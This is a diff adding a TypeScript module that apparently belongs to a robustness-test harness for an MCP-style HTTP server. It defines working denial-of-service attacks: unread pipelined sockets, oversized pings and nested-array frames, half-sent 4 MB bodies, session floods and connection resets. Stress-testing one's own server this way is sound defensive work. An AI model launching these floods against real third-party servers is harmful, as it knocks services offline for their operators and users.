@@ -1,0 +1,188 @@
+/** What a hostile client does to a server over HTTP, on sockets that it need not read. */
+import * as net from "node:net"
+import { drained } from "./drained.ts"
+import * as Frames from "./frames.ts"
+import type { Attack } from "./lineAttacks.ts"
+
+/** Where the victim listens. */
+export interface Place {
+  readonly url: URL
+  /** Whether a client has a session. */
+  readonly sessions: boolean
+}
+
+const pause = (millis: number): Promise<void> => new Promise((resolve) => setTimeout(resolve, millis))
+
+const post = ({ url }: Place, body: string, session?: string, more = ""): string =>
+  `POST ${url.pathname} HTTP/1.1\r\nHost: ${url.host}\r\nContent-Type: application/json\r\n` +
+  `Accept: application/json, text/event-stream\r\n${session === undefined ? "" : `Mcp-Session-Id: ${session}\r\n`}` +
+  `${more}Content-Length: ${Buffer.byteLength(body)}\r\n\r\n${body}`
+
+const get = ({ url }: Place, session: string): string =>
+  `GET ${url.pathname} HTTP/1.1\r\nHost: ${url.host}\r\nAccept: text/event-stream\r\nMcp-Session-Id: ${session}\r\n\r\n`
+
+/** Opens a socket; one that fails is closed, and nothing more comes of it. */
+const connect = ({ url }: Place): Promise<net.Socket | undefined> =>
+  new Promise((resolve) => {
+    const socket = net.connect(Number(url.port), url.hostname)
+    socket.on("error", () => {
+      socket.destroy()
+      resolve(undefined)
+    })
+    socket.once("connect", () => resolve(socket))
+  })
+
+const write = async (socket: net.Socket, text: string): Promise<boolean> => {
+  if (socket.destroyed) return false
+  if (!socket.write(text)) await drained(socket)
+  return !socket.destroyed
+}
+
+/** Opens a session, and returns its id; nothing where there are no sessions, or none is to be had. */
+const introduce = async (place: Place, revision?: string, capabilities?: string): Promise<string | undefined> => {
+  if (!place.sessions) return undefined
+  const response = await fetch(place.url, {
+    method: "POST",
+    headers: { "content-type": "application/json", accept: "application/json, text/event-stream" },
+    body: Frames.initialize(revision, capabilities)
+  }).catch(() => undefined)
+  await response?.arrayBuffer()
+  const id = response?.headers.get("mcp-session-id") ?? undefined
+  if (id !== undefined) {
+    await fetch(place.url, {
+      method: "POST",
+      headers: {
+        "content-type": "application/json",
+        accept: "application/json, text/event-stream",
+        "mcp-session-id": id
+      },
+      body: Frames.initialized
+    }).then((answer) => answer.arrayBuffer()).catch(() => undefined)
+  }
+  return id
+}
+
+/** Pipelines requests on sockets that it does not read; a socket that the victim has closed is followed by the next. */
+const unread = (sockets: number, body: (index: number) => string): Attack<Place> => async (place, signal) => {
+  const one = async (): Promise<void> => {
+    while (!signal.aborted) {
+      const session = await introduce(place)
+      const socket = await connect(place)
+      if (socket === undefined) {
+        await pause(100)
+        continue
+      }
+      socket.pause()
+      signal.addEventListener("abort", () => socket.destroy(), { once: true })
+      for (let index = 1; !signal.aborted && await write(socket, post(place, body(index), session)); index++) {
+        if (index % 16 === 0) await pause(0)
+      }
+      socket.destroy()
+    }
+  }
+  await Promise.all(Array.from({ length: sockets }, one))
+}
+
+/** Posts one text after another, each on a connection of its own, and reads the answers. */
+const paced =
+  (millis: number, body: (index: number) => string, revision?: string): Attack<Place> => async (place, signal) => {
+    const session = await introduce(place, revision)
+    for (let index = 1; !signal.aborted; index++) {
+      await fetch(place.url, {
+        method: "POST",
+        headers: {
+          "content-type": "application/json",
+          accept: "application/json, text/event-stream",
+          ...session === undefined ? {} : { "mcp-session-id": session },
+          ...revision === undefined ? {} : { "mcp-protocol-version": revision }
+        },
+        body: body(index),
+        signal
+      }).then((response) => response.arrayBuffer()).catch(() => undefined)
+      await pause(millis)
+    }
+  }
+
+const manySessions = (capabilities: string): Attack<Place> => async (place, signal) => {
+  const one = async (): Promise<void> => {
+    while (!signal.aborted) if (await introduce(place, undefined, capabilities) === undefined) await pause(20)
+  }
+  await Promise.all(Array.from({ length: 8 }, one))
+}
+
+/** Sends requests, and resets the connection before the answer. */
+const reset = (body: (index: number) => string): Attack<Place> => async (place, signal) => {
+  for (let index = 1; !signal.aborted; index++) {
+    const socket = await connect(place)
+    if (socket !== undefined) {
+      await write(socket, post(place, body(index)))
+      socket.resetAndDestroy()
+    }
+    await pause(1)
+  }
+}
+
+/** Has streams opened for calls that say much, and reads none of them. */
+const unreadStreams = (streams: number): Attack<Place> => async (place, signal) => {
+  const sockets = new Set<net.Socket>()
+  while (!signal.aborted) {
+    const session = await introduce(place)
+    const socket = sockets.size < streams ? await connect(place) : undefined
+    if (socket === undefined) {
+      await pause(50)
+      continue
+    }
+    sockets.add(socket)
+    socket.on("close", () => sockets.delete(socket))
+    socket.pause()
+    await write(socket, post(place, Frames.call(1, "flood", "{}"), session))
+    const standalone = session === undefined ? undefined : await connect(place)
+    if (session !== undefined && standalone !== undefined) {
+      sockets.add(standalone)
+      standalone.on("close", () => sockets.delete(standalone))
+      standalone.pause()
+      await write(standalone, get(place, session))
+    }
+  }
+  for (const socket of sockets) socket.destroy()
+}
+
+/** Announces bodies of 4 MB, sends all of them but the end, and waits. */
+const halfBodies = (most: number): Attack<Place> => async (place, signal) => {
+  const sockets = new Set<net.Socket>()
+  const body = "x".repeat(4_000_000)
+  const head = post(place, body).slice(0, -1)
+  while (!signal.aborted) {
+    const socket = sockets.size < most ? await connect(place) : undefined
+    if (socket === undefined) {
+      await pause(50)
+      continue
+    }
+    sockets.add(socket)
+    socket.on("close", () => sockets.delete(socket))
+    socket.write(head)
+    await pause(10)
+  }
+  for (const socket of sockets) socket.destroy()
+}
+
+export const httpAttacks: Readonly<Record<string, Attack<Place>>> = {
+  "pings with ids of 4 MB, unread": unread(4, (index) => Frames.ping(index, 4_000_000)),
+  "pings with ids of 4,000 bytes, unread": unread(8, (index) => Frames.ping(index, 4000)),
+  "answers of 1 MB, unread": unread(8, (index) => Frames.call(index, "echo", `{"bytes":1000000}`)),
+  "batches of 4.2 MB without a message": paced(100, () => Frames.badBatch(4_190_000), "2025-03-26"),
+  "frames of 4 MB of nested arrays": paced(100, (index) => Frames.call(index, "echo", Frames.nested(4_100_000))),
+  "calls of 60 KB of nested arrays that wait": unread(
+    4,
+    (index) => Frames.call(index, "wait", `{"x":${Frames.nested(60_000)}}`)
+  ),
+  "10,000 invented names": paced(
+    0,
+    (index) => index % 2 === 0 ? Frames.request(index, `m/${index}`) : Frames.call(index, `tool-${index}`, "{}")
+  ),
+  "event streams that say 20 MB, unread": unreadStreams(300),
+  "bodies of 4 MB that never end": halfBodies(200),
+  "sessions with 60 KB of nested capabilities": manySessions(`{"experimental":{"x":{"y":${Frames.nested(60_000)}}}}`),
+  "sessions, as many as it takes": manySessions("{}"),
+  "connections that are reset before the answer to initialize": reset(() => Frames.initialize())
+}
